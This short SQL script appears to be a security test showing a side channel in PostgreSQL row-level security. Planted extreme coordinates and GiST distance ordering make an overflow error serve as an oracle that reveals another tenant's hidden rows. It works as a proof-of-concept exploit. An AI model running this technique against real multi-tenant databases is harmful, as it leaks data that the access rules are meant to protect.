-- as: superuser
-- The distance to what an index finds is computed before the filter is asked: it overflows for another tenant's row.
SET row_security = off;
ALTER TABLE shop.customers ADD shape polygon, ADD disc circle;
UPDATE shop.customers SET shape = CASE WHEN balance > 987000000 THEN '((1.6e308,1.6e308),(1.7e308,1.7e308))' ELSE '((0,0),(1,1))' END::polygon,
	disc = CASE WHEN balance > 987000000 THEN '<(1.7e308,1.7e308),1>' ELSE '<(1,1),1>' END::circle;
CREATE INDEX ON shop.customers USING gist (shape);
CREATE INDEX ON shop.customers USING gist (disc);
RESET row_security;
SET ROLE attack_app;
SET enable_seqscan = off;
SET enable_sort = off;
SELECT shop.oracle('SELECT id FROM shop.customers ORDER BY shape <-> point ''(-1e308,0)''', '22003');
SELECT shop.oracle('SELECT id FROM shop.customers ORDER BY disc <-> point ''(-1e308,0)''', '22003');
SELECT shop.oracle('SELECT id FROM shop.customers WHERE disc <-> point ''(-1e308,0)'' > 1', '22003');
RESET ROLE;
SET row_security = off;
ALTER TABLE shop.customers DROP shape, DROP disc;
